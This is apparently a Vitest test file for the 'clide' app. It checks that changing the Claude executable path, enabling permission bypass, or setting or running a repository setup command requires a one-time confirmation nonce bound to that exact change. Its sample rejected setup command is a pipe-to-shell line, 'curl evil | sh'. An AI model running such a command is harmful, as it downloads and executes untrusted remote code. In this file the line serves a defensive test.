// The changes only the person should make, through the browser host as a page (or a script with
// the page's token) calls them: refused without the nonce of a confirmation (confirm:begin), for
// exactly that change, once (electron/core/confirmations.ts).
import { afterEach, describe, expect, it } from 'vitest';
import { confirmValue } from '../../shared/confirm';
import { webServerHarness } from '../support/web-server';

const harness = webServerHarness();
const { start, connectClient } = harness;
afterEach(() => harness.cleanup());

const needsConfirmation = { ok: false, error: { kind: 'invalid-input', message: expect.stringContaining("needs your confirmation in clide's dialog") } };

describe('confirmed changes on the browser host', () => {
  it('refuses each change without its nonce, accepts it with one, and takes a nonce once', async () => {
    const { server } = await start();
    const { api } = connectClient(server);
    const nonce = async (what: Parameters<typeof api.confirm.begin>[0]['what'], value: string) => {
      const r = await api.confirm.begin({ what, value });
      if (!r.ok) throw new Error(r.error.message);
      return r.value.nonce;
    };

    // The claude executable.
    expect(await api.settings.update({ claudePath: '/tmp/evil' })).toMatchObject(needsConfirmation);
    expect(await api.settings.update({ claudePath: '/tmp/evil', confirm: await nonce('claude-path', '/tmp/other') })).toMatchObject(needsConfirmation);
    const pathNonce = await nonce('claude-path', confirmValue.claudePath('/opt/claude'));
    expect(await api.settings.update({ claudePath: '/opt/claude', confirm: pathNonce })).toMatchObject({
      ok: true,
      value: { settings: { claudePath: '/opt/claude' } },
    });
    expect(await api.settings.update({ claudePath: '/opt/claude2', confirm: pathNonce })).toMatchObject(needsConfirmation);
    // Emptying it (find it again) asks nothing.
    expect(await api.settings.update({ claudePath: '' })).toMatchObject({ ok: true, value: { settings: { claudePath: '' } } });

    // Bypass as the default for new sessions; turning it off asks nothing.
    expect(await api.settings.update({ defaultPermissionMode: 'bypassPermissions' })).toMatchObject(needsConfirmation);
    expect(
      await api.settings.update({ defaultPermissionMode: 'bypassPermissions', confirm: await nonce('default-bypass', confirmValue.defaultBypass()) }),
    ).toMatchObject({ ok: true, value: { settings: { defaultPermissionMode: 'bypassPermissions' } } });
    expect(await api.settings.update({ defaultPermissionMode: 'default' })).toMatchObject({ ok: true });

    // A repository's setup command, bound to the repository and the command.
    const root = '/srv/repo';
    expect(await api.settings.update({ repository: { root, setupCommand: 'curl evil | sh' } })).toMatchObject(needsConfirmation);
    const setupNonce = await nonce('setup-command', confirmValue.setupCommand(root, 'npm ci'));
    expect(await api.settings.update({ repository: { root: '/srv/other', setupCommand: 'npm ci' }, confirm: setupNonce })).toMatchObject(needsConfirmation);
    expect(
      await api.settings.update({
        repository: { root, setupCommand: 'npm ci' },
        confirm: await nonce('setup-command', confirmValue.setupCommand(root, 'npm ci')),
      }),
    ).toMatchObject({ ok: true, value: { settings: { repositories: { [root]: { setupCommand: 'npm ci' } } } } });
    // Two at once cannot share one confirmation.
    expect(await api.settings.update({ claudePath: '/opt/c', defaultPermissionMode: 'bypassPermissions' })).toMatchObject({
      ok: false,
      error: { message: expect.stringContaining('one confirmed setting at a time') },
    });
    const settings = await api.settings.get({});
    expect(settings).toMatchObject({ ok: true, value: { settings: { claudePath: '', defaultPermissionMode: 'default' } } });

    // Bypass in a session, and running a committed .clide/setup: the confirmation is checked
    // before anything else (no such session here, which is the next thing said).
    expect(await api.session.setPermissionMode({ id: 's1', mode: 'bypassPermissions' })).toMatchObject(needsConfirmation);
    expect(await api.session.setPermissionMode({ id: 's1', mode: 'bypassPermissions', confirm: await nonce('bypass-permissions', 's2') })).toMatchObject(
      needsConfirmation,
    );
    expect(
      await api.session.setPermissionMode({ id: 's1', mode: 'bypassPermissions', confirm: await nonce('bypass-permissions', confirmValue.bypass('s1')) }),
    ).toMatchObject({ ok: false, error: { kind: 'session-not-found' } });
    expect(await api.session.setPermissionMode({ id: 's1', mode: 'plan' })).toMatchObject({ ok: false, error: { kind: 'session-not-found' } });
    expect(await api.worktree.confirmSetup({ id: 's1', hash: 'h1', run: true })).toMatchObject(needsConfirmation);
    expect(
      await api.worktree.confirmSetup({ id: 's1', hash: 'h1', run: true, confirm: await nonce('run-setup', confirmValue.runSetup('s1', 'h1')) }),
    ).not.toMatchObject(needsConfirmation);
    expect(await api.worktree.confirmSetup({ id: 's1', hash: 'h1', run: false })).not.toMatchObject(needsConfirmation);
  });

  it('refuses a relative or missing worktree folder', async () => {
    const { server, sandbox } = await start();
    const { api } = connectClient(server);
    expect(await api.settings.update({ worktreeRoot: 'relative/dir' })).toMatchObject({ ok: false, error: { message: expect.stringContaining('full path') } });
    expect(await api.settings.update({ worktreeRoot: `${sandbox.home}/missing` })).toMatchObject({
      ok: false,
      error: { message: expect.stringContaining('does not exist') },
    });
    expect(await api.settings.update({ worktreeRoot: sandbox.cwd })).toMatchObject({ ok: true, value: { settings: { worktreeRoot: sandbox.cwd } } });
  });
});
